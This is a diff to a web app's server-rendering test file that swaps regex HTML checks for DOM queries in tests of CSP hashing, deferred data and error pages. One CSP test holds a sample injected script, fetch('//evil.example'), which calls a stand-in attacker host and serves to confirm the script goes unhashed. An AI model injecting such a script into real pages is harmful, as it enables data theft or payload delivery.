@@ -15,6 +15,7 @@ import type { Context } from "#platform/context.ts";
 import { scriptHashesHeader, sourceHash, styleHashesHeader } from "#platform/http/markup/inline-hashes.server.ts";
 import { requestContext } from "#platform/http/request-context.ts";
 import { createLogger } from "#platform/log.server.ts";
+import { parseHtml } from "#tests/support/render.tsx";
 import { CspNonce } from "./csp-nonce.ts";
 import * as entry from "./entry.server.tsx";
 
@@ -87,8 +88,6 @@ function createSite(Page: () => ReactNode, loader: () => unknown, errors: unknow
   };
 }
 
-const inlineScripts = (html: string) => [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)];
-
 test("hashes our inline scripts and styles for the CSP, but not an injected script", async () => {
   const injected = "fetch('//evil.example')";
   const get = createSite(
@@ -97,9 +96,9 @@ test("hashes our inline scripts and styles for the CSP, but not an injected scri
     () => ({ name: "Harbour & Vale" }),
   );
   const response = await get("/");
-  const html = await response.text();
+  const { document } = parseHtml(await response.text());
   const allowed = response.headers.get(scriptHashesHeader)?.split(" ") ?? [];
-  const scripts = inlineScripts(html).map(([, content = ""]) => content);
+  const scripts = [...document.querySelectorAll("script:not([src])")].map(({ textContent }) => textContent);
   expect(scripts.length).toBeGreaterThan(3);
   expect(scripts.filter((content) => !allowed.includes(sourceHash(content)))).toEqual([injected]);
   expect(response.headers.get(styleHashesHeader)).toBe(sourceHash(":root{--ink:#111}"));
@@ -127,7 +126,7 @@ test("waits for deferred data", async () => {
   const get = createSite(DeferredPage, () => ({ late: Promise.resolve("Late but here") }));
   const response = await get("/");
   expect(response.headers.get("content-type")).toBe("text/html; charset=utf-8");
-  expect(await response.text()).toContain("<p>Late but here</p>");
+  expect(parseHtml(await response.text()).getByText("Late but here")).toBeTruthy();
 });
 
 test("sends the rest of the page uncached when deferred data fails", async () => {
@@ -135,7 +134,7 @@ test("sends the rest of the page uncached when deferred data fails", async () =>
   const response = await get("/");
   expect(response.status).toBe(200);
   expect(response.headers.get("cache-control")).toBe("no-store");
-  expect(await response.text()).toContain("<h1>Home</h1>");
+  expect(parseHtml(await response.text()).getByRole("heading", { name: "Home" })).toBeTruthy();
 });
 
 test("waits at most five seconds for deferred data", async () => {
@@ -144,7 +143,7 @@ test("waits at most five seconds for deferred data", async () => {
   await vi.advanceTimersByTimeAsync(5_000);
   vi.useRealTimers();
   expect((await response).headers.get("cache-control")).toBe("no-store");
-  expect(await (await response).text()).toContain("<p>Loading</p>");
+  expect(parseHtml(await (await response).text()).getByText("Loading")).toBeTruthy();
 });
 
 test("the error page does not reveal the error, which is logged", async () => {
@@ -159,7 +158,7 @@ test("the error page does not reveal the error, which is logged", async () => {
   const response = await get("/");
   expect(response.status).toBe(500);
   const html = await response.text();
-  expect(html).toContain("Sorry");
+  expect(parseHtml(html).getByText("Sorry")).toBeTruthy();
   expect(html).not.toContain("secret reason");
   expect(errors).toMatchObject([{ message: "secret reason", path: "/" }]);
 });
@@ -173,7 +172,7 @@ test("a 404 is not logged as an error", async () => {
   );
   const response = await get("/missing");
   expect(response.status).toBe(404);
-  expect(await response.text()).toContain("Sorry");
+  expect(parseHtml(await response.text()).getByText("Sorry")).toBeTruthy();
   expect(errors).toEqual([]);
 });
 
